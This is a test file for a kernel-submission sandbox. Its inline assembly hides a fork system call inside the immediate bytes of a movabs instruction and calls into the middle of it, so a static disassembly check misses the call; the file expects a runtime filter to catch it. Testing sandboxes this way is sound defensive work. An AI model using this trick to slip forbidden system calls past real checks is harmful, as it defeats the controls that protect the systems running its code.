// ATTACK: a raw system call hidden inside another instruction's bytes, in .text.
// Flaw aimed at: a check that looks only at the instructions a disassembler decodes. The
// 8-byte immediate of `movabs $0xc3050f00000039b8, %rax` is, read as code from its own
// first byte, `mov $57, %eax; syscall; ret` (b8 39 00 00 00 / 0f 05 / c3): fork. mgk_setup
// calls into the middle of the movabs (2 bytes in: past its 48 b8 opcode), so the hidden
// syscall runs although a linear disassembly shows only a movabs. No static check refuses
// such bytes: they occur by chance inside ordinary instructions (an immediate, a
// displacement), so refusing them would refuse honest kernels.
// Expected verdict: runtime_error, "refused: ... system call 'fork' ..." (the filter).
#include "../candidates/simple_common.cuh"

__attribute__((noinline)) static long hidden_fork() {
  long pid;
  asm volatile(
      "  jmp 2f\n"
      "1: movabs $0xc3050f00000039b8, %%rax\n"  // never run as itself
      "2: lea 1b+2(%%rip), %%rcx\n"             // the immediate's first byte
      "  sub $128, %%rsp\n"                     // keep the red zone of this function intact
      "  call *%%rcx\n"
      "  add $128, %%rsp\n"
      : "=a"(pid)
      :
      : "rcx", "r11", "memory", "cc");
  return pid;
}

MGK_EXPORT int mgk_setup(mgk_ctx* ctx) {
  std::fprintf(stderr, "attack: fork by a syscall hidden in a movabs returned %ld\n", hidden_fork());
  return simple::setup(ctx);
}
MGK_EXPORT void mgk_teardown(mgk_ctx* ctx) { simple::teardown(ctx); }

MGK_EXPORT int mgk_run(mgk_ctx* ctx, const mgk_tensor* in, int, const mgk_tensor* out, int, cudaStream_t s) {
  MGK_CUDA_TRY(ctx, simple::barrier(ctx, s));
  MGK_CUDA_TRY(ctx, simple::sum(out[0].dtype, in[0].peers, ctx->world_size, 0, out[0].data, out[0].numel, s));
  return 0;
}
